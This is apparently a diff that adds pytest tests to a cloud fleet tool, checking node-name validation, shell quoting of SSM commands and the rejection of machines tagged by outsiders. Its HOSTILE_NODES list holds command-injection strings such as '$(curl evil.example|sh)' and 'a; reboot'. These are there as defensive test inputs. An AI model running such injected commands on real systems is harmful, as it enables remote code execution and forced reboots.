@@ -2,6 +2,7 @@
 
 import gzip
 import json
+import subprocess
 from base64 import b64decode
 from dataclasses import replace
 from pathlib import Path
@@ -9,14 +10,17 @@ from typing import Any
 from urllib.request import urlopen
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from tests.cloud.driving import Driver, attempt
 from tests.cloud.faults import answered, faulty
 from tests.cloud.rows.server_set import MARKER, inputs, needs
 from tests.cloud.timing import FastClock
 
-from edgefleet.cloud.server_machines import CONFIG, SLOT
+from edgefleet.cloud.server_machines import CONFIG, SET, SLOT, nodes_of
 from edgefleet.cloud.server_set import ServerSet
-from edgefleet.errors import InvalidInput, OutsideFailure, Refused
+from edgefleet.errors import EdgefleetError, InvalidInput, OutsideFailure, Refused
+from edgefleet.io import run_command
 from edgefleet.io.aws import Aws
 from edgefleet.io.environment import Environment
 from edgefleet.io.ownership import URN
@@ -273,3 +277,98 @@ def test_what_a_server_is_made_of_stands_in_its_tags(environment: Environment) -
     tags = {tag["Key"]: tag["Value"] for tag in found["Tags"]}
     assert tags[CONFIG].startswith(driver.state.outputs["config"])
     assert environment.aws.client("ssm").get_parameter(Name=MARKER)["Parameter"]["Value"] == "begun"
+
+
+HOSTILE_NODES = (
+    "$(curl evil.example|sh)",
+    "`reboot`",
+    "a; reboot",
+    "a\nb",
+    "--all",
+    "-l",
+    "a' b",
+    "../../etc",
+    "A.Upper",
+    "x" * 254,
+    "",
+    "i-0abc\u2028",
+    "i-0abc\x1b[2J",
+)
+
+
+@pytest.mark.parametrize("name", HOSTILE_NODES)
+def test_a_node_that_kubernetes_cannot_have_is_refused(name: str) -> None:
+    """A server that was tampered with answers so; its words reach no other server."""
+    with pytest.raises(OutsideFailure, match="is not one of Kubernetes"):
+        nodes_of(f"i-0abc True\n{name} False\n", "ServerSet hub, i-0abc")
+
+
+def test_nodes_are_read_with_their_state() -> None:
+    """A node that has just joined has no state yet."""
+    assert {"i-0abc": True, "ip-10-0-0-1.eu": False, "i-0def": False} == nodes_of(
+        "i-0abc True\nip-10-0-0-1.eu Unknown\ni-0def \n", "a set"
+    )
+
+
+@given(words=st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
+@settings(max_examples=60, deadline=None)
+def test_every_word_of_a_command_is_one_word_of_the_shell_on_the_machine(words: list[str]) -> None:
+    """Read back by a real shell, as AWS-RunShellScript gives the line to one."""
+    sent: list[str] = []
+    aws = Aws.emulated("http://127.0.0.1:1", "eu-central-1")
+
+    def record(params: dict[str, Any], **_: Any) -> None:
+        sent.extend(params["Parameters"]["commands"])
+        raise OutsideFailure.at("test", "enough", "the command is known", "")
+
+    aws.client("ssm").meta.events.register("provide-client-params.ssm.SendCommand", record)
+    with pytest.raises(OutsideFailure, match="the command is known"):
+        run_command.run("i-0abc", ("printf", "%s\\0", *words), Environment(project=Path(), aws=aws))
+    shell = subprocess.run(["/bin/sh", "-c", sent[0]], capture_output=True, check=True)
+    assert (words or [""]) == shell.stdout.decode().split("\0")[:-1]
+
+
+def tagged_by_somebody(aws: Aws, instance: str, tags: dict[str, str]) -> str:
+    """Another machine of the account that got the tags of a server."""
+    ec2 = aws.client("ec2")
+    image = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["ImageId"]
+    made = ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
+    ec2.create_tags(Resources=[made], Tags=[{"Key": key, "Value": value} for key, value in tags.items()])
+    return str(made)
+
+
+@pytest.mark.parametrize("extra", [{}, {URN: "0" * 16}], ids=["the set's tag alone", "another owner's, too"])
+def test_a_machine_that_somebody_tagged_joins_nothing(
+    environment: Environment, extra: dict[str, str]
+) -> None:
+    """Not the load balancer, not the outputs; and no server is rolled or removed beside it."""
+    environment = replace(environment, holder="0123456789abcdef")
+    driver, made = brought_up(environment, servers=1)
+    assert driver.state is not None
+    (own,) = machines(environment.aws)
+    stranger = tagged_by_somebody(
+        environment.aws, own["InstanceId"], {SET: "hub", SLOT: "0", CONFIG: "x/y", **extra}
+    )
+    driver.refresh()
+    assert [own["InstanceId"]] == [member["instance"] for member in driver.state.outputs["members"]]
+    said = f"{stranger}: tagged as a server of this set, but not by this stack"
+    with pytest.raises(EdgefleetError, match=said):
+        driver.up(inputs(made, servers=3))
+    with pytest.raises(EdgefleetError, match=said):
+        driver.destroy()
+    assert {own["InstanceId"], stranger} == {each["InstanceId"] for each in machines(environment.aws)}
+    group = driver.state.inputs["targetGroups"][0]
+    health = environment.aws.client("elbv2").describe_target_health(TargetGroupArn=group)
+    assert [own["InstanceId"]] == [each["Target"]["Id"] for each in health["TargetHealthDescriptions"]]
+
+
+def test_a_slot_that_is_none_is_superfluous(environment: Environment) -> None:
+    """Its tag was changed by somebody: the machine is replaced, not misread."""
+    driver, made = brought_up(environment, servers=1)
+    (own,) = machines(environment.aws)
+    environment.aws.client("ec2").create_tags(
+        Resources=[own["InstanceId"]], Tags=[{"Key": SLOT, "Value": "-1"}]
+    )
+    driver.refresh()
+    driver.up(inputs(made, servers=1))
+    assert [("0", "t3.medium")] == places(environment.aws)
